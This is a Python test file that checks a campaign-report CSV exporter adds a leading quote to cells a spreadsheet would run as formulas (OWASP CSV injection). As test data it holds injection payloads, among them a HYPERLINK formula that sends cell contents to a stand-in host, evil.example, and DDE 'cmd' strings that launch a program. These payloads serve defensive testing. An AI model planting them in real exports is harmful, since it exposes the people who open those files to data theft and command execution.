"""CSV exports neutralise cells a spreadsheet would run as formulas (OWASP CSV injection)."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest

from campaigns.reports import csvexport
from workers.cli.reports import CSV_METRICS, write_channel_csv


@pytest.mark.parametrize(("value", "written"), [
    ('=HYPERLINK("http://evil.example/?x="&A1,"click")', '\'=HYPERLINK("http://evil.example/?x="&A1,"click")'),
    ("@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd\\|' /C calc'!A0"),
    ("+cmd|' /C calc'!A0", "'+cmd\\|' /C calc'!A0"),
    ("-2+3", "'-2+3"),
    ("\t=1+1", "'\t=1+1"),
    ("\r=1+1", "'\r=1+1"),
    ("ecommerce", "ecommerce"),
    ("-5.00", "-5.00"),  # a plain number is data, not a formula
    (-5, -5),
    (0.25, 0.25),
])
def test_formula_cells_get_a_leading_quote_and_data_is_kept(value, written):
    buffer = io.StringIO()
    csvexport.writer(buffer).writerow(["x", value])
    assert next(csv.reader(io.StringIO(buffer.getvalue()))) == ["x", str(written)]


def test_channel_report_csv_neutralises_formula_channel_names(tmp_path: Path) -> None:
    row = {metric: 1 for metric in CSV_METRICS} | {"stages": {"new": 1}}
    data = {
        "stages": ["new"],
        "acquisition": [{**row, "channel": '=HYPERLINK("http://evil.example","x")'}, {**row, "channel": "store"}],
        "purchase": [{**row, "channel": "@SUM(A1:A2)"}, {**row, "channel": "+cmd|' /C calc'!A0"}],
    }
    target = tmp_path / "channels.csv"

    assert write_channel_csv(data, target) == 4

    with target.open(newline="", encoding="utf-8") as handle:
        channels = [line["channel"] for line in csv.DictReader(handle)]
    assert channels == ['\'=HYPERLINK("http://evil.example","x")', "store", "'@SUM(A1:A2)", "'+cmd\\|' /C calc'!A0"]
